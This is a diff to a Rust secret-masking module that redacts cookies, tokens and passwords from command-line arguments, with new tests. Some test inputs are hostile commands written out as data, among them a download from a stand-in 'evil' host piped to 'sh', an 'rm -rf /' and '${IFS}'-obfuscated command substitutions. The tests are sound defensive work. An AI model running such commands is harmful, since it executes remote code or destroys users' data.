@@ -47,7 +47,14 @@ pattern!(
     HEADER,
     r#"(?i)\b((?:proxy-)?authorization|x-api-key|x-auth-token|x-vault-token|private-token|x-amz-security-token)(\s*[:=]\s*)((?:bearer|basic|token|digest|negotiate)\s+)?([^\s"']+)"#
 );
-pattern!(COOKIES, r#"(?i)\b((?:set-)?cookie:\s*)([^"'\r\n]+)"#);
+// A header of cookies ends where its argument does, or its quote; bare in a script it has pairs, and what no `;` joins to
+// them is the script's.
+pattern!(COOKIE_ARGUMENT, r"(?is)^((?:-H\s*|--[a-z\-]+=)?(?:set-)?cookie\s*:\s*)(.+)$");
+pattern!(QUOTED_COOKIES, r#"(?i)(["'](?:-H\s*)?(?:set-)?cookie\s*:\s*)([^"'\r\n]+)"#);
+pattern!(
+    COOKIES,
+    r#"(?i)\b((?:set-)?cookie\s*[:=]\s*)([^\s"';]+(?:;[ \t]*[^\s"';=]+=[^\s"';]*)*)"#
+);
 pattern!(BEARER, r#"(?i)\b(bearer\s+)([A-Za-z0-9._~+/\-]{16,}=*)"#);
 pattern!(
     KNOWN_KEYS,
@@ -72,7 +79,7 @@ pattern!(
     )
 );
 // With what stands before it, which tells a path from a secret.
-pattern!(WORD, r"(^|[^A-Za-z0-9+/_\-])([A-Za-z0-9+/_\-]{24,}={0,2})");
+pattern!(WORD, r"(^|[^A-Za-z0-9+/_\-])([A-Za-z0-9+/_\-]{24,})");
 
 /// Shorter user names of a URL are names.
 const MIN_TOKEN_CHARS: usize = 16;
@@ -117,18 +124,20 @@ pub fn mask_arguments(arguments: &mut [String]) -> bool {
     masked
 }
 
-/// The masked value of a flag; `None` where it holds no secret.
+/// The masked value of a flag; `None` where it holds no secret. A value of another form than the flag's may still hold
+/// one: `curl -u TOKEN`, `--token "$(curl …)"`.
 fn mask_value(takes: Takes, value: &str) -> Option<String> {
-    match takes {
-        Takes::Secret => is_secret_value(value).then(|| MASKED.to_owned()),
-        Takes::After(sign) => {
-            let (name, secret) = value.split_once(sign)?;
-            is_secret_value(secret).then(|| format!("{name}{sign}{MASKED}"))
-        }
-        Takes::Source => {
-            let secret = value.strip_prefix("pass:")?;
-            is_secret_value(secret).then(|| format!("pass:{MASKED}"))
-        }
+    let (before, secret) = match takes {
+        Takes::Secret => (Cow::Borrowed(""), Some(value)),
+        Takes::After(sign) => match value.split_once(sign) {
+            Some((name, secret)) => (format!("{}{sign}", mask_text(name)).into(), Some(secret)),
+            None => (Cow::Borrowed(""), None),
+        },
+        Takes::Source => (Cow::Borrowed("pass:"), value.strip_prefix("pass:")),
+    };
+    match secret {
+        Some(secret) if is_secret_value(secret) => Some(format!("{before}{MASKED}")),
+        _ => mask_script(value),
     }
 }
 
@@ -139,8 +148,10 @@ fn mask_argument(argument: &str) -> Option<String> {
     while let Some(found) = WHOLE.captures(value) {
         value = &value[value.len() - found[2].len()..];
         if is_secret_name(&found[1]) {
-            return is_secret_value(value)
-                .then(|| argument[..argument.len() - value.len()].to_owned() + MASKED);
+            if is_secret_value(value) {
+                return Some(argument[..argument.len() - value.len()].to_owned() + MASKED);
+            }
+            break;
         }
     }
     mask_script(argument)
@@ -154,12 +165,12 @@ fn mask_script(text: &str) -> Option<String> {
     }
 }
 
-/// Whether an argument is a script for a shell: words after `-c`, alone or at the end of a cluster.
+/// Whether an argument is a script for a shell: words after `-c`, alone or in a cluster.
 fn is_script(before: &[String], argument: &str) -> bool {
     let cluster = before.last().and_then(|flag| flag.strip_prefix('-'));
     argument.contains(char::is_whitespace)
         && cluster.is_some_and(|letters| {
-            letters.ends_with('c') && letters.bytes().all(|letter| letter.is_ascii_lowercase())
+            letters.contains('c') && letters.bytes().all(|letter| letter.is_ascii_lowercase())
         })
 }
 
@@ -176,7 +187,9 @@ pub fn mask_text(text: &str) -> Cow<'_, str> {
         let scheme = found.get(3).map_or("", |scheme| scheme.as_str());
         masking(&found[4], || format!("{}{}{scheme}{MASKED}", &found[1], &found[2]))
     });
-    change(&COOKIES, &|found| masking(&found[2], || format!("{}{MASKED}", &found[1])));
+    for cookies in [&COOKIE_ARGUMENT, &QUOTED_COOKIES, &COOKIES] {
+        change(cookies, &|found| masking(&found[2], || format!("{}{MASKED}", &found[1])));
+    }
     change(&BEARER, &|found| Masking::Replace(format!("{}{MASKED}", &found[1])));
     change(&USERINFO, &mask_password);
     change(&USER, &|found| {
@@ -294,7 +307,10 @@ fn program_name(argument: &str) -> &str {
 fn is_secret_flag(argument: &str) -> bool {
     argument.starts_with("--") && !argument.contains(['=', ' ']) && is_secret_name(argument)
         || (argument.starts_with('-')
-            && matches!(argument.trim_start_matches('-'), "password" | "pass" | "token" | "secret"))
+            && matches!(
+                argument.trim_start_matches('-'),
+                "password" | "pass" | "token" | "secret" | "setcookie"
+            ))
 }
 
 /// A value without the quotes around it, escaped or not.
@@ -467,6 +483,38 @@ mod tests {
     }
 
     #[test]
+    fn secrets_where_a_flag_takes_another_form() {
+        const KEY: &str = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
+        for (arguments, expected) in [
+            ("curl -u KEY: h", "curl -u <masked>: h"),
+            ("curl -u KEY:x-oauth-basic h", "curl -u <masked>:<masked> h"),
+            ("curl -uKEY h", "curl -u<masked> h"),
+            ("wget --user KEY h", "wget --user <masked> h"),
+            ("http -a KEY h", "http -a <masked> h"),
+            ("smbclient //h/s -U KEY", "smbclient //h/s -U <masked>"),
+            ("lftp -u KEY h", "lftp -u <masked> h"),
+            ("openssl enc -pass KEY", "openssl enc -pass <masked>"),
+            ("mysql -p$(echo${IFS}KEY)", "mysql -p$(echo${IFS}<masked>)"),
+            (
+                "app --token $(curl${IFS}https://me:pw@h/)",
+                "app --token $(curl${IFS}https://me:<masked>@h/)",
+            ),
+            ("TOKEN=$(curl${IFS}https://me:pw@h/)", "TOKEN=$(curl${IFS}https://me:<masked>@h/)"),
+        ] {
+            let split = |text: &str| -> Vec<String> {
+                text.split(' ').map(|word| word.replace("KEY", KEY)).collect()
+            };
+            let (mut masked, expected) = (split(arguments), split(expected));
+            assert!(mask_arguments(&mut masked), "{arguments}");
+            assert_eq!(masked, expected);
+        }
+        check(
+            &["env", "TOKEN=$(curl -H 'X-Vault-Token: s.abc' h) PASSWORD=x run"],
+            &["env", "TOKEN=$(curl -H 'X-Vault-Token: <masked>' h) PASSWORD=<masked> run"],
+        );
+    }
+
+    #[test]
     fn users_of_urls() {
         for (url, expected) in [
             ("redis://:p/ss@h", "redis://:<masked>@h"),
@@ -520,7 +568,26 @@ mod tests {
             &["curl", "-H", "Authorization: Basic dTpw"],
             &["curl", "-H", "Authorization: Basic <masked>"],
         );
-        check(&["curl", "-H", "Cookie: a=b; session=c"], &["curl", "-H", "Cookie: <masked>"]);
+        for (argument, expected) in [
+            ("Cookie: a=b; session=c", "Cookie: <masked>"),
+            ("Cookie: a=\"b\"; session=c d", "Cookie: <masked>"),
+            ("-HCookie: a=b", "-HCookie: <masked>"),
+            ("--header=Cookie: a=b; c=d", "--header=Cookie: <masked>"),
+            ("--cookie=SESSION=a; b=c", "--cookie=SESSION=<masked>"),
+            ("-bSESSION=a", "-bSESSION=<masked>"),
+        ] {
+            check(&["curl", argument], &["curl", expected]);
+        }
+        for (script, expected) in [
+            ("curl -H Cookie:a=b http://evil/x | sh", "curl -H Cookie:<masked> http://evil/x | sh"),
+            ("curl -H 'Cookie: a=b c; d=e' h; id", "curl -H 'Cookie: <masked>' h; id"),
+            ("x Cookie: a=b; c=d; rm -rf /", "x Cookie: <masked>; rm -rf /"),
+            ("curl --cookie=SESSION=abc h", "curl --cookie=<masked> h"),
+        ] {
+            check(&["sh", "-c", script], &["sh", "-c", expected]);
+            check(&["sh", "-ce", script], &["sh", "-ce", expected]);
+        }
+        stays(&["curl", "--cookie", "jar.txt", "--cookie-jar=/tmp/jar"]);
         check(&["curl", "-HX-Api-Key: abc"], &["curl", "-HX-Api-Key: <masked>"]);
         check(
             &["curl", "https://h/p?a=1&sig=abc&b=2"],
@@ -540,17 +607,21 @@ mod tests {
             "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
             "-----BEGIN PRIVATE KEY-----\nMIIE",
             "wJalrXUtnFEMI2K7MDENGbPxRfiCYEX4MPLEKEY9",
-            "dGhpc0lzQVJhbmRvbTEyM1NlY3JldDQ1Ng==",
             "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLE1KEY2",
         ] {
             check(&["run", key], &["run", MASKED]);
             check(&["run", &format!("x {key}")], &["run", "x <masked>"]);
+            let (long, masked) =
+                ("a_name_of_more_than_24_chars=", "a_name_of_more_than_24_chars=<masked>");
+            check(&["run", &format!("x {long}{key}")], &["run", &format!("x {masked}")]);
         }
+        check(&["run", "dGhpc0lzQVJhbmRvbTEyM1NlY3JldDQ1Ng=="], &["run", "<masked>=="]);
     }
 
     #[test]
     fn what_is_no_secret_stays() {
         stays(&["nginx", "-g", "daemon off;"]);
+        stays(&["openssl", "enc", "-pass", "env:PW"]);
         stays(&["mkdir", "-p", "/var/lib/app/releases"]);
         stays(&["ssh", "-p", "2222", "host"]);
         stays(&["docker", "run", "-p", "8080:80", "nginx"]);
